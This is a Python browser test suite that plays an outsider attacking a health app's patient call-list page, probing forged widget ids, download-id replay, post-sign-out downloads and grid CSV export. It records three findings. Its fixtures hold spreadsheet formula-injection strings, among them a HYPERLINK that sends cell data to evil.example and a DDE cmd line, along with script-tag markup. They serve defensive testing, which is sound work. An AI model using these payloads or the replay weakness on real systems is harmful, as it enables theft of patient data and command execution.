"""Attacks on case finding (Patients to invite), run as an outsider would.

Only what a browser tab sends and receives is used: page URLs and query strings, widget values
over the websocket (forged ids included), the BackMsg a tab sends to fetch a deferred
download, plain HTTP GETs of the URLs the server hands out, the identity cookie a real OpenID
Connect sign-in (oidc-provider-mock as CIS2) leaves in Chromium, and the client configuration
the server sends each tab. The identity table, the audit log and the server's log are read
afterwards only to score the attacks.

Each FINDING_* text is a weakness found (as it was before any fix). Findings 2 and 3 were
fixed and their tests pass; finding 1 is a limit of Streamlit's deferred downloads (the
handler is given the requesting session's id and ignores it), left open and documented in
docs/access.md: its test stays xfail(strict=True) until Streamlit checks the session.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
import subprocess
import sys
import time
import urllib.error
import uuid
from datetime import date
from pathlib import Path

import duckdb
import pytest
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.sync.client import connect

from components.pages import PAGES
from phm.audit import log
from phm.cohort import Cohort
from phm.queries.worklist import due_patients
from tests.browser.conftest import CIS2_USERS
from tests.browser.streamlit_ws import Run, Tab, Trigger
from tests.browser.test_attack_access import (
    COHORT_PAGES,
    DATA_KINDS,
    _alerts,
    _data_elements,
    _open_tab,
    _pick,
    _real,
    _Recorder,
    _take_file,
)

ROOT = Path(__file__).resolve().parents[2]
NURSE_PRACTICE = "P00001"  # the demo practice nurse's and CIS2_USERS["practice"]'s practice
OTHER_PRACTICE = "P00002"
OTHER_NURSE = ("910000000077", "Olu Otherpractice", OTHER_PRACTICE, "S0030:G0100:R8001")
NOT_PRACTICE_ROLES = ("ics-analyst", "borough-commissioner", "programme-lead", "administrator")
# Identity values written into a copy of the demo: a spreadsheet must not run them, a page must
# show them as text.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
    "\t=1+1",
    '=cmd|" /C calc"!A0',
)
MARKUP = "<script>alert(1)</script>"

FINDING_REPLAY_OTHER_SESSION = (
    "finding 1: a nurse's deferred download ids work from any other websocket session, even"
    " one nobody signed in to: Streamlit's DeferredFileHandler ignores the requesting session"
    " and frame.download's function checks only the principal captured when the page was"
    " drawn, so whoever learns an id (128-bit, sent only to the nurse's tab) gets the"
    " identifiable list, and the log records the nurse as the one who exported it"
)
FINDING_AFTER_SIGN_OUT = (
    "finding 2: sessions do not end everywhere for downloads: after the nurse signs out (or"
    " her access is removed), another open tab of hers still takes the call list and SMS"
    " batch through the download ids it was given; the deferred function never runs the"
    " gate's ended_since check, and the log gets `export` entries after the `sign_out`"
)
FINDING_GRID_EXPORT = (
    "finding 3: the patient lists' st.dataframe grids keep Streamlit's built-in CSV download"
    " and clipboard copy (client.disableDataExport is false in the config sent to the"
    " tab), so the whole identifiable call list leaves as a file with no `export` entry, no"
    " watermark and no formula neutralisation (in Chromium the toolbar's download gave"
    " `=1+1` and `=CMD|...` cells as they are in the identity table)"
)


# --- helpers -----------------------------------------------------------------------------


def _identity(db: Path) -> dict[str, dict[str, str]]:
    """Return each NHS number's practice and the forms its details take on a page or file."""
    with duckdb.connect(str(db), read_only=True) as con:
        rows = con.execute(
            "SELECT nhs_number, practice_code, given_name, family_name, mobile FROM identity"
        ).fetchall()
    out = {}
    for nhs, practice, given, family, mobile in rows:
        out[nhs] = {
            "practice": practice,
            "spaced": f"{nhs[:3]} {nhs[3:6]} {nhs[6:]}",
            "listed": f"{family.upper()}, {given}",
            "sms": f"{given} {family}",
            "mobile": mobile or "",
        }
    return out


def _markers(identity: dict[str, dict[str, str]], practice: str | None = None) -> set[str]:
    """Return strings that only someone's identity holds (NHS numbers, names, mobiles)."""
    found = set()
    for nhs, person in identity.items():
        if practice is not None and person["practice"] != practice:
            continue
        found |= {nhs, person["spaced"], person["listed"], person["sms"]}
        if person["mobile"]:
            found |= {person["mobile"], person["mobile"].replace(" ", "")}
    return found


def _sent_text(run: Run) -> str:
    """Return everything a run sent: each element's proto and its decoded tables and charts."""
    parts = []
    for element in run.elements:
        parts.append(str(element.proto))
        if element.kind == "dataframe" and element.data is not None:
            parts.append(element.data.to_csv())
        if element.kind == "vega_lite_chart":
            parts += [d.to_csv() for d in element.data.values() if d is not None]
        if element.kind == "deck_gl_json_chart":
            parts.append(str(element.data))
    return "\n".join(parts)


def _leaked(run: Run, markers: set[str]) -> list[str]:
    text = _sent_text(run)
    return sorted(m for m in markers if m in text)[:5]


def _listed(run: Run) -> set[str]:
    """Return the NHS numbers of the call list a run showed (empty when none was shown)."""
    try:
        table = run.dataframe_with("NHS number", "Name")
    except LookupError:
        return set()
    return set(table["NHS number"].astype(str).str.replace(" ", ""))


def _rows(body: bytes) -> list[dict[str, str]]:
    """Return a list file's rows (after its '# ' watermark lines)."""
    text = body.decode("utf-8")
    lines = [line for line in text.splitlines() if not line.startswith("# ")]
    return list(csv.DictReader(io.StringIO("\n".join(lines))))


def _exports(audit: Path) -> list[log.Entry]:
    return [e for e in _real(audit) if e.kind == "export"]


class _ConfigRecorder(_Recorder):
    """A tab's socket that also keeps the client configuration of its last new_session."""

    def __init__(self, socket) -> None:
        super().__init__(socket)
        self.config = None

    def recv(self, timeout: float | None = None) -> bytes:
        raw = super().recv(timeout)
        forward = ForwardMsg()
        forward.ParseFromString(raw)
        if forward.WhichOneof("type") == "new_session":
            self.config = forward.new_session.config
        return raw


class _CookieTab(Tab):
    """A Tab whose websocket carries a browser's cookies (another tab of the same browser)."""

    def __init__(self, base_url: str, cookies: list[dict]) -> None:
        self.base_url = base_url.rstrip("/")
        self.decode = True
        header = "; ".join(f"{c['name']}={c['value']}" for c in cookies)
        # As the frontend does: the XSRF cookie's token as the second subprotocol, without
        # which the server ignores the identity cookie.
        xsrf = next(c["value"] for c in cookies if c["name"] == "_streamlit_xsrf")
        self._connection = connect(
            self.base_url.replace("http", "ws", 1) + "/_stcore/stream",
            subprotocols=["streamlit", xsrf],  # type: ignore[list-item]
            origin=self.base_url,  # type: ignore[arg-type]
            max_size=None,
            additional_headers={"Cookie": header},
        )
        self.socket = None


def _cookie_tab(url: str, cookies: list[dict]) -> tuple[Tab, _Recorder]:
    tab = _CookieTab(url, cookies).__enter__()
    recorder = _Recorder(tab.socket)
    tab.socket = recorder  # type: ignore[assignment]
    return tab, recorder


def _add_cis2_nurse(oidc_provider, user: tuple[str, str, str, str]) -> None:
    subject, name, org, role_code = user
    oidc_provider.add_user(
        subject,
        {
            "name": name,
            "nhsid_nrbac_roles": [
                {"person_roleid": f"666{subject[-6:]}", "org_code": org, "role_code": role_code}
            ],
        },
    )


def _provider_sign_in(page, url: str, subject: str, name: str) -> None:
    from playwright.sync_api import expect
    from streamlit_page import settle

    page.goto(url)
    page.get_by_role("button", name="Sign in with NHS Care Identity Service 2").click()
    page.locator("input[name='sub']").fill(subject)
    page.get_by_role("button", name="Authorize").click()
    expect(page.get_by_text(name).first).to_be_visible(timeout=60_000)
    settle(page)


def _sign_out(page) -> None:
    page.locator("[data-testid='stSidebar']").get_by_role("button", name="Sign out").click()
    end = page.get_by_role("button", name="End session")
    end.or_(
        page.get_by_role("button", name="Sign in with NHS Care Identity Service 2")
    ).first.wait_for(timeout=30_000)
    if end.count():
        end.click()


def _crafted_db(tiny_db: Path, folder: Path) -> tuple[Path, list[str]]:
    """Return a copy of the demo whose first practice's due people have hostile identities."""
    db = folder / "crafted.duckdb"
    shutil.copy(tiny_db, db)
    with duckdb.connect(str(db)) as con:
        as_at = date.fromisoformat(
            con.execute("SELECT value FROM dataset_meta WHERE key = 'as_at'").fetchone()[0]
        )
        due = due_patients(con, Cohort(as_at=as_at, practices=(NURSE_PRACTICE,)), NURSE_PRACTICE)
        reachable = due[~due["is_deceased"] & due["accepts_messages"] & due["mobile"].notna()]
        ids = [int(i) for i in reachable["person_id"].head(len(FORMULAS))]
        assert len(ids) == len(FORMULAS)
        numbers = []
        for person, formula in zip(ids, FORMULAS, strict=True):
            con.execute(
                "UPDATE identity SET given_name = ?, family_name = ?, postcode = ?"
                " WHERE person_id = ?",
                [formula, MARKUP, formula, person],
            )
            numbers.append(
                con.execute(
                    "SELECT nhs_number FROM identity WHERE person_id = ?", [person]
                ).fetchone()[0]
            )
    return db, numbers


# --- 1. every other role, and the nurse's own links and widgets -------------------------------


@pytest.mark.browser
def test_other_roles_get_nothing_identifiable_from_patients_links_or_forged_widgets(
    start_server, tiny_db, tmp_path
):
    """Planner, commissioner, programme lead and administrator at /patients: bare, with the
    nurse's shared link and cohort parameters, and with the nurse's real widget ids forged
    (the due multiselect, the sidebar's practice widget, a download button pressed)."""
    identity = _identity(tiny_db)
    markers = _markers(identity)
    queries = (
        "",
        f"practice={NURSE_PRACTICE}",
        f"practice={OTHER_PRACTICE}",
        "due=first&due=second&due=booster",
        f"practice={NURSE_PRACTICE}&due=first&age_min=70&is_housebound=yes&dose=3",
        "pcn=U00001&borough=E09000003",
    )
    with start_server(tiny_db, tmp_path / "server.log", {"PHM_DEMO_USER": ""}) as url:
        with Tab(url) as nurse:
            _pick(nurse, "practice-nurse", "patients")
            shared = nurse.run("patients", "due=first&due=second")
            assert _listed(shared), "the nurse's own list is the control: it must show"
            forged = {
                shared.widget_id("patients_due_labels"): ["Never vaccinated"],
                shared.widget_id("practice"): [NURSE_PRACTICE],
                shared.of("download_button")[0].proto.id: Trigger(),
            }
        for user in NOT_PRACTICE_ROLES:
            with Tab(url) as tab:
                _pick(tab, user, "patients")
                for query in queries:
                    for widgets in ({}, forged):
                        run = tab.run(PAGES["patients"].url_path, query, widgets)
                        where = (user, query, bool(widgets))
                        assert _data_elements(run) == [], where
                        assert "Patient lists are only for staff" in _alerts(run), where
                        assert _leaked(run, markers) == [], where
    entries = _real(tmp_path / "audit.sqlite")
    others = [e for e in entries if e.role != "practice"]
    assert {e.kind for e in others if e.page == "patients"} == {"refused"}
    assert not any(e.kind in ("person_view", "export") for e in others)


@pytest.mark.browser
def test_nurse_list_holds_only_her_practice_whatever_the_link_or_widgets(
    start_server, tiny_db, tmp_path
):
    """Links and forged widget values naming other practices, PCNs, areas, dates and doses:
    the list is refused or stays within the nurse's registered patients (the identity table)."""
    identity = _identity(tiny_db)
    own = {n for n, p in identity.items() if p["practice"] == NURSE_PRACTICE}
    others = _markers(identity) - _markers(identity, NURSE_PRACTICE)
    with duckdb.connect(str(tiny_db), read_only=True) as con:
        other_areas = con.execute(
            "SELECT p.lsoa_code, l.msoa_code FROM person p JOIN lsoa l USING (lsoa_code)"
            " GROUP BY ALL HAVING bool_and(p.practice_code <> ?) ORDER BY count(*) DESC LIMIT 2",
            [NURSE_PRACTICE],
        ).fetchall()
        other_pcn = con.execute(
            "SELECT pcn_code FROM practice WHERE pcn_code <> (SELECT pcn_code FROM practice"
            " WHERE practice_code = ?) LIMIT 1",
            [NURSE_PRACTICE],
        ).fetchone()[0]
    lsoas = [a[0] for a in other_areas]
    msoas = [a[1] for a in other_areas]
    links = [
        f"practice={OTHER_PRACTICE}",
        f"practice={NURSE_PRACTICE}&practice={OTHER_PRACTICE}",
        f"pcn={other_pcn}",
        f"lsoa={lsoas[0]}&lsoa={lsoas[1]}",
        f"msoa={msoas[0]}",
        "as_at=2030-01-01&dose=1",
        "as_at=2021-02-01",
        "due=first&due=evil",
        f"practice={NURSE_PRACTICE}&pcn={other_pcn}",
    ]
    audit = tmp_path / "audit.sqlite"
    env = {"PHM_DEMO_USER": "practice-nurse"}
    with start_server(tiny_db, tmp_path / "server.log", env) as url, Tab(url) as tab:
        base = tab.run("patients")
        listed = _listed(base)
        assert listed and listed <= own
        ids = {k: base.widget_id(k) for k in ("practice", "pcn", "msoa", "patients_due_labels")}
        forged = [
            {ids["practice"]: [OTHER_PRACTICE]},
            {ids["practice"]: [NURSE_PRACTICE, OTHER_PRACTICE]},
            {ids["pcn"]: [other_pcn]},
            {ids["msoa"]: msoas},
            {f"$$ID-{uuid.uuid4().hex}-lsoa": lsoas},
            {ids["patients_due_labels"]: ["Never vaccinated", "first", "booster"]},
        ]
        for link in links:
            with Tab(url) as fresh:
                run = fresh.run("patients", link)
                assert _listed(run) <= own, link
                assert _leaked(run, others) == [], link
        for widgets in forged:
            with Tab(url) as fresh:
                fresh.run("patients")
                run = fresh.run("patients", "", widgets)
                assert _listed(run) <= own, widgets
                assert _leaked(run, others) == [], widgets
        # Her other pages (population-level) carry nobody's identity, her patients' included.
        everyone = _markers(identity)
        for name in COHORT_PAGES:
            if name == "patients":
                continue
            run = tab.run(PAGES[name].url_path)
            assert _leaked(run, everyone) == [], name
    entries = _real(audit)
    assert all(e.org_code == NURSE_PRACTICE for e in entries)
    views = [e for e in entries if e.kind == "person_view"]
    assert views and all(json.loads(e.cohort)["practice"] == [NURSE_PRACTICE] for e in views)


@pytest.mark.browser
def test_nurses_of_two_practices_each_get_only_their_own_list(
    context, tiny_db, tmp_path, start_provider_server, oidc_provider
):
    """Two nurses signed in through CIS2, one after the other on one server (so a cache
    shared between sessions would show): each list is her practice's, and the second
    nurse's copy of the first's link is refused."""
    from playwright.sync_api import expect
    from streamlit_page import settle

    identity = _identity(tiny_db)
    _add_cis2_nurse(oidc_provider, OTHER_NURSE)
    subject, name, _, _ = CIS2_USERS["practice"]
    with start_provider_server(tiny_db, tmp_path) as url:
        page = context.new_page()
        _provider_sign_in(page, url, subject, name)
        first, _ = _cookie_tab(url, context.cookies())
        try:
            mine = first.run("patients", f"practice={NURSE_PRACTICE}&due=first&due=second")
        finally:
            first.__exit__(None, None, None)
        other = context.browser.new_context()
        try:
            nurse2 = other.new_page()
            _provider_sign_in(nurse2, url, OTHER_NURSE[0], OTHER_NURSE[1])
            nurse2.goto(f"{url}/patients?practice={NURSE_PRACTICE}&due=first&due=second")
            expect(nurse2.get_by_text("Practice staff see their own practice")).to_be_visible(
                timeout=30_000
            )
            settle(nurse2)
            expect(nurse2.locator("[data-testid='stDataFrame']")).to_have_count(0)
            second, _ = _cookie_tab(url, other.cookies())
            try:
                refused = second.run("patients", f"practice={NURSE_PRACTICE}&due=first&due=second")
            finally:
                second.__exit__(None, None, None)
            third, _ = _cookie_tab(url, other.cookies())  # a fresh tab: no sidebar kept
            try:
                theirs = third.run("patients", "due=first&due=second")
            finally:
                third.__exit__(None, None, None)
        finally:
            other.close()
    assert _listed(mine), _alerts(mine)
    assert {identity[n]["practice"] for n in _listed(mine)} == {NURSE_PRACTICE}
    assert _listed(refused) == set() and _data_elements(refused) == []
    assert _leaked(refused, _markers(identity, NURSE_PRACTICE)) == []
    assert _listed(theirs), _alerts(theirs)
    assert {identity[n]["practice"] for n in _listed(theirs)} == {OTHER_PRACTICE}
    entries = _real(tmp_path / "audit.sqlite")
    for entry in entries:
        if entry.kind == "person_view":
            assert json.loads(entry.cohort)["practice"] == [entry.org_code]


# --- 3. downloads ------------------------------------------------------------------------------


@pytest.mark.browser
def test_every_patient_file_taken_without_a_click_is_audited_with_its_count_and_hash(
    start_server, tiny_db, tmp_path
):
    """Each of the three files fetched the way a client can (no button press): one `export`
    entry each, with the SHA-256 of the bytes taken and the number of people in the file."""
    env = {"PHM_DEMO_USER": "practice-nurse"}
    with start_server(tiny_db, tmp_path / "server.log", env) as url:
        tab, recorder = _open_tab(url)
        try:
            run = tab.run("patients", "due=first&due=second&due=booster&age_min=50")
            taken = {b.proto.label: _take_file(url, recorder, b) for b in run.of("download_button")}
        finally:
            tab.__exit__(None, None, None)
    assert len(taken) == 3
    by_hash = {e.file_sha256: e for e in _exports(tmp_path / "audit.sqlite")}
    for label, body in taken.items():
        entry = by_hash.get(hashlib.sha256(body).hexdigest())
        assert entry is not None, f"{label}: no export entry with this file's hash"
        assert entry.records == len(_rows(body)), label
        assert entry.org_code == NURSE_PRACTICE and entry.page == "patients"
        assert json.loads(entry.cohort)["age_min"] == "50", entry.cohort


@pytest.mark.browser
@pytest.mark.xfail(strict=True, reason=FINDING_REPLAY_OTHER_SESSION)
def test_nurses_download_ids_do_not_work_from_another_session(start_server, tiny_db, tmp_path):
    """The ids a nurse's tab was sent, asked for over a websocket where nobody signed in."""
    with start_server(tiny_db, tmp_path / "server.log", {"PHM_DEMO_USER": ""}) as url:
        nurse, _ = _open_tab(url)
        stranger, recorder = _open_tab(url)
        try:
            _pick(nurse, "practice-nurse", "patients")
            buttons = nurse.run("patients").of("download_button")
            assert len(buttons) == 3
            assert "Demo sign-in" in [e.proto.body for e in stranger.run("").of("heading")]
            got = []
            for button in buttons:
                try:
                    got.append(_take_file(url, recorder, button))
                except (AssertionError, TimeoutError, urllib.error.HTTPError):
                    continue
        finally:
            stranger.__exit__(None, None, None)
            nurse.__exit__(None, None, None)
    assert got == [], f"a session nobody signed in to took {len(got)} of the nurse's lists"


@pytest.mark.browser
@pytest.mark.parametrize("ended_by", ["sign_out", "access_removed"])
def test_patient_lists_cannot_be_taken_after_the_session_ended_elsewhere(
    context, tiny_db, tmp_path, start_provider_server, ended_by
):
    """The nurse signed in through CIS2 has a second tab on Patients to invite (a websocket
    with her browser's cookies); she signs out in the first tab, or the administrator removes
    her access; the second tab then asks for the files it was given."""
    audit = tmp_path / "audit.sqlite"
    subject, name, _, _ = CIS2_USERS["practice"]
    with start_provider_server(tiny_db, tmp_path) as url:
        page = context.new_page()
        _provider_sign_in(page, url, subject, name)
        tab, recorder = _cookie_tab(url, context.cookies())
        try:
            run = tab.run("patients", "due=first&due=second")
            buttons = run.of("download_button")
            assert _listed(run) and len(buttons) == 3
            if ended_by == "sign_out":
                _sign_out(page)
            else:
                nurse = next(e.user_id for e in _real(audit) if e.kind == "sign_in")
                removed = subprocess.run(
                    [sys.executable, "-m", "phm", "access", "remove", "--db", str(audit)]
                    + ["--user-id", nurse, "--by", "ig-lead"],
                    cwd=ROOT,
                    capture_output=True,
                    text=True,
                    check=False,
                )
                assert removed.returncode == 0, removed.stderr
            ended = max(e.seq for e in _real(audit) if e.kind in ("sign_out", "access_removed"))
            time.sleep(0.5)
            got = []
            for button in buttons:
                try:
                    got.append(_take_file(url, recorder, button))
                except (AssertionError, TimeoutError, urllib.error.HTTPError):
                    continue
        finally:
            tab.__exit__(None, None, None)
    late = [e for e in _real(audit) if e.kind == "export" and e.seq > ended]
    assert got == [] and late == [], (
        f"{len(got)} lists taken and {len(late)} exports audited after {ended_by}"
    )


@pytest.mark.browser
def test_patient_list_grids_offer_no_unaudited_csv_download(start_server, tiny_db, tmp_path):
    """The list is drawn with st.dataframe; the client configuration decides whether its
    toolbar offers 'Download as CSV' (made in the browser, never seen by the server)."""
    env = {"PHM_DEMO_USER": "practice-nurse"}
    with start_server(tiny_db, tmp_path / "server.log", env) as url, Tab(url) as tab:
        recorder = _ConfigRecorder(tab.socket)
        tab.socket = recorder  # type: ignore[assignment]
        run = tab.run("patients")
        assert _listed(run), "the list is drawn as a grid"
        assert recorder.config is not None
        assert recorder.config.disable_data_export, (
            "the grid's own CSV download and copy are on for identifiable lists"
        )


# --- 4. and 5. hostile identity values; errors, logs and the audit log ------------------------


@pytest.mark.browser
def test_formulas_and_markup_in_identities_are_neutralised_in_files_and_text_on_the_page(
    start_server, tiny_db, tmp_path
):
    db, numbers = _crafted_db(tiny_db, tmp_path)
    env = {"PHM_DEMO_USER": "practice-nurse"}
    with start_server(db, tmp_path / "server.log", env) as url:
        tab, recorder = _open_tab(url)
        try:
            run = tab.run("patients")
            files = {b.proto.label: _take_file(url, recorder, b) for b in run.of("download_button")}
        finally:
            tab.__exit__(None, None, None)
    # On the page: the names reach the grid as data (text), never as markdown or HTML.
    table = run.dataframe_with("NHS number", "Name")
    shown = table[table["NHS number"].str.replace(" ", "").isin(numbers)]
    assert len(shown) == len(numbers)
    for element in run.elements:
        if element.kind in ("markdown", "alert", "html"):
            assert MARKUP not in element.proto.body and "HYPERLINK" not in element.proto.body
    # In every file, no cell a spreadsheet would run.
    assert len(files) == 3
    for label, body in files.items():
        text = body.decode("utf-8")
        assert "HYPERLINK" in text or "home-visit" in label, label
        for row in _rows(body):
            for column, cell in row.items():
                assert not cell.startswith(("=", "@", "\t", "\r")), (label, column, cell)
                assert not (
                    cell.startswith(("+", "-")) and not cell[1:].replace(" ", "").isdigit()
                ), (
                    label,
                    column,
                    cell,
                )
    sms = {r["NHS Number"]: r for r in _rows(files["Download the SMS batch (CSV)"])}
    assert set(numbers) <= set(sms), "the crafted people are due and reachable by text"
    assert all(sms[n]["Patient Name"].startswith("'") for n in numbers)


@pytest.mark.browser
def test_bad_parameters_and_forged_values_leak_no_identity_to_errors_logs_or_the_audit_log(
    start_server, tiny_db, tmp_path
):
    """Malformed links and widget values of the wrong type on /patients: the nurse sees a
    redacted error at worst; the server's log and every audit entry's cohort and detail hold
    no NHS number, name or mobile; the administrator's Audit page shows none either."""
    identity = _identity(tiny_db)
    markers = _markers(identity)
    evil = "X\n<script>alert(1)</script>" + "A" * 3000
    with start_server(tiny_db, tmp_path / "server.log", {"PHM_DEMO_USER": ""}) as url:
        with Tab(url) as tab:
            _pick(tab, "practice-nurse", "patients")
            base = tab.run("patients")
            assert _listed(base)
            for query in (f"due={evil}", f"practice={evil}&due=first", "age_min=-1&age_max=999"):
                run = tab.run("patients", query)
                assert "<script>" not in run.text()
            for widgets in (
                {base.widget_id("dose"): "9"},
                {base.widget_id("patients_due_labels"): [evil]},
                {base.widget_id("age_min"): 10**9},
            ):
                tab.run("patients")
                run = tab.run("patients", "", widgets)
                for exception in run.of("exception"):
                    assert (
                        not exception.proto.stack_trace and "/work" not in exception.proto.message
                    )
                    assert _leaked(run, markers) == []
            tab.run("patients")
            for button in base.of("download_button"):
                tab.run("patients", "", {button.proto.id: Trigger()})
        with Tab(url) as admin:
            _pick(admin, "administrator", "audit")
            audit_page = admin.run("audit")
            assert [e for e in _data_elements(audit_page) if e in DATA_KINDS]
            assert _leaked(audit_page, markers) == []
    server_log = (tmp_path / "server.log").read_text(errors="replace")
    assert [m for m in markers if m in server_log] == []
    entries = _real(tmp_path / "audit.sqlite")
    assert any(e.kind == "person_view" for e in entries)
    for entry in entries:
        for text in (entry.cohort, entry.detail, entry.page):
            assert not [m for m in markers if m in text], (entry.kind, text[:200])
            assert "<script>" not in text
